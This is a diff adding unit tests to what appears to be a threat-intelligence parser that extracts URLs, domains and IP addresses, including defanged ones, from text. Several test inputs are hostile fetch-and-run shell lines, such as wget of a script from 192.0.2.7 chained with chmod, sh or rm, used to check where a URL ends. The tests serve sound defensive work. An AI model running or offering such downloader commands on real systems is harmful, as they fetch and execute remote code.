@@ -40,6 +40,22 @@ test('a URL with a fragment is offered without it too', () => {
   ]);
 });
 
+test.each([';chmod 777 x.sh', '&&sh', '&amp;&amp;sh', ';sh&&rm'])(
+  'a URL before %s ends there too',
+  (command) => {
+    const keys = read(`cd /tmp;wget http://192.0.2.7/x.sh${command}`);
+    expect(keys).toContain('url:http://192.0.2.7/x.sh http://192.0.2.7/x.sh');
+    expect(read(`wget 192.0.2.7/x.sh${command}`)).toContain('url:http://192.0.2.7/x.sh 192.0.2.7/x.sh');
+  },
+);
+
+test('credentials end at no command', () => {
+  expect(read('ftp://u&&p@a.example/x')).toEqual([
+    'url:ftp://u&&p@a.example/x ftp://u&&p@a.example/x',
+    'domain:a.example a.example',
+  ]);
+});
+
 test('a host with a path or a port but no scheme may have had either', () => {
   expect(read('evil[.]example/x')).toEqual([
     'url:http://evil.example/x evil[.]example/x',
@@ -62,6 +78,7 @@ test('an address mapped into IPv6 is both', () => {
 
 test('of two readings of a doubtful text both are offered', () => {
   expect(read('evil.example . Then')).toContain('domain:evil.example evil.example');
+  expect(read('evil。рф')).toEqual(['domain:evil.xn--p1ai evil。рф']);
   expect(read('evil.example.The end')).toContain('domain:evil.example evil.example');
   expect(read('stix_evil.example')).toEqual([
     'domain:stix_evil.example stix_evil.example',
@@ -113,6 +130,15 @@ test.each([
   ['192.0.2.7', 'ipv4:192.0.2.7', EVIDENCE.plain],
   ['version 1.2.3.4', 'ipv4:1.2.3.4', EVIDENCE.doubtful],
   ['v1.2.3.4', 'ipv4:1.2.3.4', EVIDENCE.doubtful],
+  ['http://evil.example/x.sh;sh', 'url:http://evil.example/x.sh', EVIDENCE.implied],
+  ['to 192.0.2.7.Then it', 'ipv4:192.0.2.7', EVIDENCE.implied],
+  ['192.0.2[.]7.Then', 'ipv4:192.0.2.7', EVIDENCE.implied],
+  ['http://192.0.2.7.Then', 'ipv4:192.0.2.7', EVIDENCE.implied],
+  ['http://192.0.2.7.isp.example/', 'ipv4:192.0.2.7', EVIDENCE.implied],
+  ['1.2.3.4.exe', 'ipv4:1.2.3.4', EVIDENCE.doubtful],
+  ['192.0.2.7 . Then', 'ipv4:192.0.2.7', EVIDENCE.plain],
+  ['1.2.3.4.5', 'ipv4:1.2.3.4', undefined],
+  ['1.2.3.4.5.rpm', 'ipv4:1.2.3.4', undefined],
   ['192.0.2.0/24', 'ipv4:192.0.2.0', EVIDENCE.implied],
   ['192.0.2.7/24', 'ipv4:192.0.2.7', EVIDENCE.plain],
   [`0x${SHA256}`, `sha256:${SHA256}`, EVIDENCE.implied],
